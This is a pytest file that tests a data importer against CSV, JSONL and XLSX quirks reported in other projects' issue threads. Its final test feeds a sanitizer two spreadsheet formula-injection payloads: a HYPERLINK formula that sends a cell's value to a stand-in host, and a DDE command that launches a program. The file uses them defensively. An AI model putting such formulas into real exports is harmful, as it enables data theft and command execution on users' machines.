"""Files that users of other programs have reported, by the thread: read as the people who made them see them.

"near" is before the thread of a file that is like a reported one.
"""

import codecs
from collections.abc import Mapping

import pytest

from api.csvcells import harmless
from tests.api.batches.sheets import REL, book, packed, sheet
from tests.api.batches.test_reading import read, refusal
from tests.api.batches.test_workbooks import HEAD, cell

MARK = codecs.BOM_UTF8

CSV: Mapping[str, tuple[bytes, list[str], list[list[str]]]] = {
    "mechatroner/vscode_rainbow_csv#108": (b"sep=;\nOne;Two\n1;2\n", ["One", "Two"], [["1", "2"]]),
    "near tspence/csharp-csv-reader#28: capitals": (b"SEP=;\r\na;b\r\n1;2\r\n", ["a", "b"], [["1", "2"]]),
    "tspence/csharp-csv-reader#28 a quoted tab": (b'"sep=\t"\na\tb\n1\t2\n', ["a", "b"], [["1", "2"]]),
    "near parsecsv/parsecsv-for-php#60: saved again": (b"Sep=;;\r\na;b\r\n1,5;2\r\n", ["a", "b"], [["1,5", "2"]]),
    "near parsecsv/parsecsv-for-php#60: a column's name": (b"sep=ab,b\r\n1,2\r\n", ["sep=ab", "b"], [["1", "2"]]),
    "Clever/csvlint#37": (MARK + b'"a","b"\n"Hello","how are you"\n', ["a", "b"], [["Hello", "how are you"]]),
    "melihbirim/csvql#103": (MARK + b"id,name\n1,Alice\n", ["id", "name"], [["1", "Alice"]]),
    "near melihbirim/csvql#103: marked twice": (MARK * 2 + b"id,name\n1,Alice\n", ["id", "name"], [["1", "Alice"]]),
    "near melihbirim/csvql#103: with its separator": (
        MARK + b"sep=;\nid;name\n1;Alice\n",
        ["id", "name"],
        [["1", "Alice"]],
    ),
    "mholt/PapaParse#43": (b"a\tb\r1\t2\r3\t4\r", ["a", "b"], [["1", "2"], ["3", "4"]]),
    "MarkPflug/Sylvan#198": (b'a,b\r"x\ry",2\r', ["a", "b"], [["x\ry", "2"]]),
    "JoshClose/CsvHelper#1803": (b"F1;F2\n1,2,3;4,5,6\n", ["F1", "F2"], [["1,2,3", "4,5,6"]]),
    "JuliaData/CSV.jl#1185": (b"a;b\n1,5;2,5\n", ["a", "b"], [["1,5", "2,5"]]),
    "SheetJS/sheetjs#732": (b'a,b\n"value with\ttab","none"\n', ["a", "b"], [["value with\ttab", "none"]]),
    "deephaven/deephaven-core#1800": (b"A|B|C|\n1|2|3|\n", ["A", "B", "C"], [["1", "2", "3"]]),
    "pandas-dev/pandas#14124": (b"A,B,C\n1,4,7,\n2,5,8,\n", ["A", "B", "C"], [["1", "4", "7"], ["2", "5", "8"]]),
    "adaltas/node-csv#330 rows": (b"A,B\na,b,,,,\n", ["A", "B"], [["a", "b"]]),
    "adaltas/node-csv#330 names": (b"A,B,\na,b\n", ["A", "B"], [["a", "b"]]),
    "adaltas/node-csv-parse#120": (b"h1,h2, \n1,2, \n4,5, ", ["h1", "h2"], [["1", "2"], ["4", "5"]]),
    "fsprojects/FSharp.Data#688": (b"a,b,c,\n1,2,3\n", ["a", "b", "c"], [["1", "2", "3"]]),
    "OpenDataRepository/data-publisher#84": (b"a,b,,,\n1,2,,,\n", ["a", "b"], [["1", "2"]]),
    "pcreux/csv-importer#54": (b",,\n,email,name\n,a@b,Ann\n", ["", "email", "name"], [["", "a@b", "Ann"]]),
    "mldbai/mldb#365": (MARK + b"a,b,\n1,2,\n", ["a", "b"], [["1", "2"]]),
}


@pytest.mark.parametrize("thread", CSV)
def test_a_reported_csv_file_is_read(thread: str) -> None:
    data, columns, rows = CSV[thread]
    found = read(data)
    assert (found[0], found[1], found[3]) == (columns, rows, [])


def test_a_short_row_is_a_problem_with_its_line() -> None:
    """mautic/mautic#610: such rows were passed over without a word."""
    _, rows, _, problems = read(b"firstname,email,note\nann,a@b,\nbob,b@c\n")
    assert rows == [["ann", "a@b", ""]]
    assert problems == [(3, "The first row names 3 columns; this row has 2.")]


JSONL: Mapping[str, tuple[bytes, list[list[str]]]] = {
    "ijl/orjson#517": (b'{"tag": -80241446968629135069}\n', [["-80241446968629135069"]]),
    "jeroen/jsonlite#405": (b'{"id": 1413617112501850121}\n', [["1413617112501850121"]]),
    "bcicen/jstream#13": (b'{"f": 1.20000000000000000000000000005}\n', [["1.20000000000000000000000000005"]]),
    "kgabis/parson#7 the last of two": (b'{"x":1,"x":2}\n', [["2"]]),
    "marked twice": (MARK * 2 + b'{"x":1}\r\n', [["1"]]),
}


@pytest.mark.parametrize("thread", JSONL)
def test_a_reported_jsonl_file_is_read(thread: str) -> None:
    data, rows = JSONL[thread]
    found = read(data, "a.jsonl")
    assert (found[1], found[3]) == (rows, [])


WHOLE = "each line must be one whole JSON object"
REFUSED: Mapping[str, tuple[bytes, str, str]] = {
    "nuprl/MultiPL-E#81": (b'[\n  {\n    "a": 1\n  }\n]\n', "a.jsonl", WHOLE),
    "near nuprl/MultiPL-E#81: on a line": (b'[{"a": 1}, {"a": 2}]', "a.json", WHOLE),
    "near nuprl/MultiPL-E#81: in a file without an extension": (b'[{"a": 1},\n{"a": 2}]', "a", WHOLE),
    "near nuprl/MultiPL-E#81: objects on several lines": (b'{\n  "a": 1\n}\n{\n  "a": 2\n}\n', "a.jsonl", WHOLE),
    "ncbi/datasets#523": (b'{"a": 1}{"a": 2}\n', "a.jsonl", WHOLE),
    "openai-php/client#107": (b'{"prompt": "How?", completion: Kama}\n', "a.jsonl", WHOLE),
    "kgabis/parson#178": (b'{"a": 10, "b": 20,}\n', "a.jsonl", WHOLE),
    "opentargets/issues#211": (b'{\n  "id": 1,\n  "text": "x"\n}\n', "a.jsonl", WHOLE),
    "pkiraly/metadata-qa-api#184": (b'[{"id": 1, "text": "x"}]', "a.jsonl", WHOLE),
    "farling42/obsidian-import-json#39": (b'{"id": 1},\n{"id": 2},\n', "a.jsonl", WHOLE),
    "quotes of Python": (b"{'id': 1}\n", "a.jsonl", WHOLE),
}


@pytest.mark.parametrize("thread", REFUSED)
def test_a_reported_file_that_is_not_jsonl_is_refused_with_what_is_wrong(thread: str) -> None:
    data, name, why = REFUSED[thread]
    assert why in refusal(data, name)


def test_a_reported_line_that_is_not_json_is_named_by_its_place_in_the_file() -> None:
    """wandb/rai-toolkit#82."""
    _, rows, lines, problems = read(b'\n{"prompt":"valid row"}\n\n{"prompt": \n[]\n', "a.jsonl")
    assert (rows, lines, [line for line, _ in problems]) == ([["valid row"]], [2], [4, 5])


SHEETS: Mapping[str, tuple[str, list[list[str]], list[int]]] = {
    "JanMarvin/openxlsx2#1676": (
        (
            '<row ht="1"/><row ht="1"><c r="C2" t="str"><v>id</v></c></row><row ht="1"><c r="C3"><v>314</v></c></row>'
            '<row r="5" ht="1"/><row ht="1"><c r="C6"><v>1</v></c></row><row ht="1"><c r="C7"><v>200000</v></c></row>'
        ),
        [["314"], ["1"], ["200000"]],
        [3, 6, 7],
    ),
    "exceljs/exceljs#2961": (
        "\n<row>\n<c t='str'>\n<v>a</v>\n</c>\n<c t='str'><v>b</v></c></row>\n<row>\n<c t='n'>\n<v>1</v></c><c/></row>",
        [["1", ""]],
        [2],
    ),
    "carlvoller/excel-rs#5": (
        (
            '<row r=""><c r="A" t="str"><v>a</v></c><c r="B" t="str"><v>b</v></c></row>'
            '<row r=""><c r="A"><v>1</v></c><c r="B"><v>2</v></c></row>'
        ),
        [["1", "2"]],
        [2],
    ),
    "exceljs/exceljs#537": (
        (
            '<row r="5"><c r="A5" t="str"><v>a</v></c><c s="0" t="str"><v>b</v></c><c t="str"><v>c</v></c></row>'
            '<row r="6"><c r="A6"><v>1</v></c><c r="C6"><v>3</v></c></row>'
        ),
        [["1", "", "3"]],
        [6],
    ),
    "ExcelDataReader/ExcelDataReader#115": (
        (
            '<row ht="22.5"><c s="117"/><c s="20"/></row><row><c t="str"><v>a</v></c><c t="str"><v>b</v></c></row>'
            "<row><c><v>1</v></c><c><v>2</v></c></row>"
        ),
        [["1", "2"]],
        [3],
    ),
}


@pytest.mark.parametrize("thread", SHEETS)
def test_a_reported_sheet_is_read_where_its_cells_are(thread: str) -> None:
    markup, rows, lines = SHEETS[thread]
    _, found, numbers, problems = read(packed(sheet(markup)), "a.xlsx")
    assert (found, numbers, problems) == (rows, lines, [])


@pytest.mark.parametrize(
    "target",
    [
        pytest.param("/xl/worksheets/sheet1.xml", id="tidyverse/readxl#294"),
        pytest.param("worksheets\\sheet1.xml", id="ggreen86/XLSX-Workbook-Class#159"),
        pytest.param("  /xl/worksheets/sheet1.xml", id="exceljs/exceljs#1220"),
    ],
)
def test_a_reported_path_of_a_sheet_is_followed(target: str) -> None:
    relation = f'<Relationship Id="r1" Type="{REL}/worksheet" Target="{target}"/>'
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {"xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{namespace}">{relation}</Relationships>'}
    xml = sheet(HEAD + '<row r="2"><c r="A2"><v>1</v></c></row>')
    assert read(book({"Data": xml}, parts=parts), "a.xlsx")[1] == [["1", ""]]


@pytest.mark.parametrize(
    ("code", "value", "shown"),
    [
        pytest.param("[HH]:MM", "62.5", "1500:00", id="jmcnamara/XlsxWriter#731"),
        pytest.param("[hh]:mm", "1.34375", "32:15", id="NemusLoren/php-excel-reader#187"),
        pytest.param("[h]:mm:ss", "1.545416666666667", "37:05:24", id="mogsdad/SheetConverter#13"),
        pytest.param("[H]:M:S", "0.01", "0:14:24", id="tealeg/xlsx#852 [H]"),
        pytest.param("H:[M]:S", "0.01", "0:14:24", id="tealeg/xlsx#852 H:[M]"),
        pytest.param("[h]:mm:ss", "83.30509259259259", "1999:19:20", id="mk-j/PHP_XLSXWriter#106"),
        pytest.param(46, "1.5", "36:00:00", id="nao1215/filesql#301"),
        pytest.param("[h]:mm", "-0.125", "-0.125", id="justkawal/excel#316, which the 1900 system cannot show"),
    ],
)
def test_a_reported_duration_is_shown(code: str | int, value: str, shown: str) -> None:
    assert cell(f'<c r="B2" s="1"><v>{value}</v></c>', formats=[code]) == shown


@pytest.mark.parametrize(
    ("code", "value", "shown"),
    [
        pytest.param("0000000", "123", "0000123", id="tidyverse/readxl#389"),
        pytest.param("00000", "2035", "02035", id="tealeg/xlsx#623"),
        pytest.param("00000", "6791", "06791", id="shuchkin/simplexlsx#97"),
        pytest.param("00000-0000", "21380001", "02138-0001", id="pandas-dev/pandas#46895"),
    ],
)
def test_a_reported_number_keeps_the_leading_zeros_of_its_format(code: str, value: str, shown: str) -> None:
    assert cell(f'<c r="B2" s="1"><v>{value}</v></c>', formats=[code]) == shown


@pytest.mark.parametrize(
    ("markup", "shown"),
    [
        pytest.param("_x005F_x000D_", "_x000D_", id="exceljs/exceljs#584"),
        pytest.param("Bekrefter _x000D_\nbindende", "Bekrefter \r\nbindende", id="doy/spreadsheet-parsexlsx#81"),
        pytest.param("Product_x005F_xB9f0_Code", "Product_xB9f0_Code", id="apache/fesod#991"),
        pytest.param("a_xd_b", "a_xd_b", id="SheetJS/sheetjs#557"),
        pytest.param("valcheck_x005F_xa100_ev", "valcheck_xa100_ev", id="jmcnamara/XlsxWriter#807"),
    ],
)
def test_a_reported_escape_is_undone(markup: str, shown: str) -> None:
    assert cell(f'<c r="B2" t="inlineStr"><is><t>{markup}</t></is></c>') == shown


def test_a_formula_with_an_empty_text_for_its_result_has_one() -> None:
    """office-kit/xlsx#121."""
    assert cell('<c r="B2" t="str"><f>[1]Extern!$A$1</f><v/></c>') == ""


@pytest.mark.parametrize(
    ("given", "written"),
    [
        pytest.param("-123", "-123", id="ONSdigital/dis-wagtail#621"),
        pytest.param("-0.02", "-0.02", id="hhurz/tableExport.jquery.plugin#296"),
        pytest.param(
            '=HYPERLINK("https://e.test?d="&A1,"x")',
            '\'=HYPERLINK("https://e.test?d="&A1,"x")',
            id="calcom/cal.diy#29844",
        ),
        pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="hhurz/tableExport.jquery.plugin#230"),
        pytest.param("\t=1+1", "'\t=1+1", id="brightdata/sdk-python#52"),
    ],
)
def test_a_reported_number_stays_and_a_formula_does_not(given: str, written: str) -> None:
    assert harmless(given) == written
